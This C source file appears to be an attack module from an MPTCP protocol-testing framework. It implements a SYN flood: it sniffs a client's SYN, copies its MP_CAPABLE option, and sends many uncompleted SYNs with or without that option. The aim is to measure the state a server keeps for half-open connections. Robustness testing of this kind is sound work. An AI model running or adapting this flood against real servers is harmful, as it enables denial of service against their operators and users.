/* SPDX-License-Identifier: MIT */
/*
 * AT-08 before any token: SYNs that nobody completes, with the MP_CAPABLE that
 * a client of the same server was seen to send, or without it. What the
 * second costs the server is TCP's own; what the first costs more is MPTCP's.
 * RFC 8684 section 3.1 lets a server keep no state for it.
 */
#include "atk_opts.h"
#include "atk_table.h"
#include "atk_tcp.h"

enum { FIRST_PORT = 40000 };

enum { SYNS, EVERY, OPENS };
enum { OPENS_CAPABLE };
static const char *const opens_words[] = {"capable", "plain", NULL};
static const struct atk_param params[] = {
    [SYNS] = {"syns", ATK_P_COUNT, .initial = 100, .min = 1, .max = 20000},
    [EVERY] = {"every", ATK_P_TIME, .initial = 1000000, .min = 1000,
               .max = UINT64_C(1000000000000)},
    [OPENS] = {"opens", ATK_P_WORD, .words = opens_words},
    {.name = NULL},
};

struct state {
    struct atk_ends ends; /* of the SYN sniffed; family 0: none yet */
    bool has_capable;
    struct mpx_opt capable;
    uint64_t sent;
};

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;

    (void)a;
    (void)now;
    if (st->ends.family || mpx_seg_kind_of(s->flags) != MPX_SEG_SYN)
        return ATK_PASS;
    st->ends = atk_ends_of(s);
    st->has_capable = atk_opts_find(s, MPX_SUB_CAPABLE, &st->capable);
    return ATK_PASS;
}

static void send_syn(struct atk *a, struct state *st, uint64_t now)
{
    struct mpx_opt o = st->capable;
    struct atk_tcp t = {.flow = {0}};

    atk_tcp_open_to(&t, a, &st->ends, (uint16_t)(FIRST_PORT + st->sent++));
    if (!st->has_capable || atk_param(a, OPENS) != OPENS_CAPABLE) {
        atk_tcp_send(&t, a, MPX_TCP_SYN, NULL, NULL, 0, NULL, 0, now);
        return;
    }
    if (o.u.capable.id_len) /* RFC 6824: the key is in the SYN */
        atk_random(a, &o.u.capable.sender, o.u.capable.id_len);
    atk_tcp_send_opt(&t, a, MPX_TCP_SYN, &o, now);
}

static void send_next_syn(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    if (st->ends.family && st->sent < atk_param(a, SYNS))
        send_syn(a, st, now);
    if (st->sent < atk_param(a, SYNS))
        atk_set_timer(a, now + atk_param(a, EVERY));
}

const struct atk_ops atk_syn_flood = {
    .name = "flood-capable",
    .id = "AT-08",
    .does = "sends SYNs that nobody completes, with MP_CAPABLE or without",
    .source = "RFC 8684 section 3.1; RFC 4987",
    .powers = ATK_READ | ATK_HOST,
    .params = params,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
    .on_start = send_next_syn,
    .on_timer = send_next_syn,
};
